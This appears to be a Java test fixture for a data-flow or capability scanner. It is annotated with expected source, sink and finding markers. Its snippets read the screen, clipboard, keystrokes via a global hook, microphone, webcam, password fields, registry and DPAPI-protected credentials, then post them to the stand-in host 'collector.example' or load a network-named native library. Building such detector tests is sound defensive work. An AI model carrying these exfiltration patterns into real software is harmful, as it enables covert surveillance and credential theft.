// java.awt, javax.swing, javax.imageio, javax.sound, JNativeHook, JNA, OSHI, webcam-capture: screen, clipboard, keys, sound,
// camera, the machine.
package app;

import com.github.kwhat.jnativehook.GlobalScreen;
import com.github.kwhat.jnativehook.keyboard.*;
import com.github.sarxos.webcam.Webcam;
import com.sun.jna.Native;
import com.sun.jna.platform.win32.*;
import java.awt.*;
import java.awt.datatransfer.*;
import java.awt.event.KeyEvent;
import java.awt.image.BufferedImage;
import java.io.*;
import java.lang.management.ManagementFactory;
import java.net.URI;
import javax.imageio.ImageIO;
import javax.sound.sampled.*;
import javax.swing.JPasswordField;
import org.springframework.web.client.RestTemplate;
import oshi.SystemInfo;
import oshi.software.os.OperatingSystem;

class Shown {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void screen() {
        BufferedImage image = new Robot().createScreenCapture(null); //~ source(SCREEN) f1, capability(SCREEN)
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "png", out);
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f1, finding(traced) f1
    }

    void screenPixels(BufferedImage given) {
        BufferedImage image = new Robot().createScreenCapture(null); //~ source(SCREEN) f2
        rest.postForObject(U, image.getRGB(1, 1), String.class); //~ sink(egress.http) f2, finding(traced) f2
        rest.postForObject(U, new Robot().createScreenCapture(null) == null, String.class); //~ ok
        rest.postForObject(U, given.getRGB(1, 1), String.class); //~ ok
    }

    void pressed() {
        new Robot().keyPress(1); //~ capability(KEYBOARD)
        new Robot().keyPress(1); //~ ok
    }

    void image(File file) {
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(rest.getForObject(U, byte[].class))); //~ source(NETWORK) f3
        ImageIO.write(image, "png", file); //~ sink(file.write) f3, finding(traced) f3, capability(FILE_WRITE)
        ImageIO.write(null, "png", file); //~ ok
        ImageIO.read(new ByteArrayInputStream(new byte[1])); //~ ok
    }

    void imageFile(File file) {
        rest.postForObject(U, ImageIO.read(file), String.class); //~ source(FILE) f4, sink(egress.http) f4, finding(traced) f4, capability(FILES)
        rest.postForObject(U, ImageIO.read(file) == null, String.class); //~ ok
    }

    void clipboard() {
        Object text = Toolkit.getDefaultToolkit().getSystemClipboard().getData(DataFlavor.stringFlavor); //~ source(CLIPBOARD) f5, capability(CLIPBOARD)
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f5, finding(traced) f5
    }

    void clipboardContents(Clipboard board) {
        Transferable contents = board.getContents(null); //~ source(CLIPBOARD) f6, capability(CLIPBOARD)
        rest.postForObject(U, contents.getTransferData(DataFlavor.stringFlavor), String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void clipboardNone(Clipboard board, Transferable given) {
        rest.postForObject(U, Toolkit.getDefaultToolkit().getSystemClipboard().getData(null) == null, String.class); //~ ok
        rest.postForObject(U, board.getContents(null) == null, String.class); //~ ok
        rest.postForObject(U, given.getTransferData(null), String.class); //~ ok
    }

    void clipboardSet(Clipboard board) {
        board.setContents(new StringSelection("x"), null); //~ capability(CLIPBOARD)
        board.setContents(new StringSelection("x"), null); //~ ok
    }

    void selection() {
        Transferable text = new StringSelection(System.getenv("T")); //~ source(ENVIRONMENT) f7
        rest.postForObject(U, text.getTransferData(null), String.class); //~ sink(egress.http) f7, finding(traced) f7
        rest.postForObject(U, new StringSelection("x"), String.class); //~ ok
    }

    void selectionText() {
        rest.postForObject(U, new StringSelection(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
    }

    void key(KeyEvent event) {
        rest.postForObject(U, event.getKeyChar(), String.class); //~ source(KEYSTROKE) f9, sink(egress.http) f9, finding(traced) f9
        rest.postForObject(U, event.getKeyChar() == 1, String.class); //~ ok
    }

    void hooked() {
        GlobalScreen.registerNativeHook(); //~ capability(KEYBOARD)
        GlobalScreen.registerNativeHook(); //~ ok
    }

    void sound(TargetDataLine line) {
        byte[] buffer = new byte[100];
        line.read(buffer, 0, 100); //~ source(AUDIO) f10
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f10, finding(traced) f10
        line.read(new byte[100], 0, 100); //~ ok
    }

    void soundLine() {
        TargetDataLine line = AudioSystem.getTargetDataLine(null); //~ source(AUDIO) f11, capability(MICROPHONE)
        File file = new File("/tmp/jm-sound");
        AudioSystem.write(new AudioInputStream(line), null, file);
        FileInputStream in = new FileInputStream(file); //~ source(FILE) f12
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f11, finding(traced) f11, sink(egress.http) f12, finding(traced) f12
    }

    void soundNone(File file) {
        rest.postForObject(U, AudioSystem.getTargetDataLine(null) == null, String.class); //~ ok
        AudioSystem.write(new AudioInputStream(null), null, file); //~ ok
    }

    void camera() {
        Webcam camera = Webcam.getDefault(); //~ capability(CAMERA)
        rest.postForObject(U, camera.getImage(), String.class); //~ source(CAMERA) f13, sink(egress.http) f13, finding(traced) f13
    }

    void cameraGiven(Webcam camera) {
        rest.postForObject(U, camera.getImage().getData(), String.class); //~ source(CAMERA) f14, sink(egress.http) f14, finding(traced) f14
        rest.postForObject(U, camera.getImage() == null, String.class); //~ ok
        Webcam.getDefault(); //~ ok
    }

    void entered(JPasswordField field) {
        rest.postForObject(U, field.getPassword(), String.class); //~ source(INPUT) f15, sink(egress.http) f15, finding(traced) f15
        rest.postForObject(U, field.getPassword() == null, String.class); //~ ok
    }

    void browsed(Desktop desktop) {
        desktop.browse(URI.create("https://browse.collector.example/?t=" + System.getenv("T"))); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16, capability(NETWORK)
        desktop.browse(URI.create("https://browse.collector.example/")); //~ ok
    }

    void library() {
        Native.load(rest.getForObject(U, String.class), null); //~ source(NETWORK) f17, sink(exec.load) f17, finding(traced) f17, capability(NATIVE)
        Native.load("x", null); //~ ok
    }

    void registry() {
        rest.postForObject(U, Advapi32Util.registryGetStringValue(null, "k", "v"), String.class); //~ source(REGISTRY) f18, sink(egress.http) f18, finding(traced) f18, capability(REGISTRY)
        rest.postForObject(U, Advapi32Util.registryGetStringValue(null, "k", "v") == null, String.class); //~ ok
    }

    void secret() {
        rest.postForObject(U, Crypt32Util.cryptUnprotectData(null), String.class); //~ source(CREDENTIAL) f19, sink(egress.http) f19, finding(traced) f19, capability(CREDENTIALS)
        rest.postForObject(U, Crypt32Util.cryptUnprotectData(null) == null, String.class); //~ ok
    }

    void machine(SystemInfo info) {
        rest.postForObject(U, info.getHardware(), String.class); //~ source(DEVICE) f20, sink(egress.http) f20, finding(traced) f20, capability(DEVICE)
        rest.postForObject(U, info.getHardware() == null, String.class); //~ ok
    }

    void processes(OperatingSystem system) {
        rest.postForObject(U, system.getProcesses(), String.class); //~ source(PROCESS) f21, sink(egress.http) f21, finding(traced) f21, capability(PROCESSES)
        rest.postForObject(U, system.getProcesses() == null, String.class); //~ ok
    }

    void runtime() {
        rest.postForObject(U, ManagementFactory.getRuntimeMXBean(), String.class); //~ source(DEVICE) f22, sink(egress.http) f22, finding(traced) f22, capability(DEVICE)
        rest.postForObject(U, ManagementFactory.getRuntimeMXBean() == null, String.class); //~ ok
    }
}

class Keys implements NativeKeyListener {
    public void nativeKeyPressed(NativeKeyEvent event) {
        String text = NativeKeyEvent.getKeyText(event.getKeyCode()).trim(); //~ source(KEYSTROKE) f23
        Shown.rest.postForObject(Shown.U, text, String.class); //~ sink(egress.http) f23, finding(traced) f23
    }

    public void nativeKeyReleased(NativeKeyEvent event) {
        Shown.rest.postForObject(Shown.U, event.getKeyCode() == 1, String.class); //~ ok
        Shown.rest.postForObject(Shown.U, NativeKeyEvent.getKeyText(1), String.class); //~ ok
    }
}
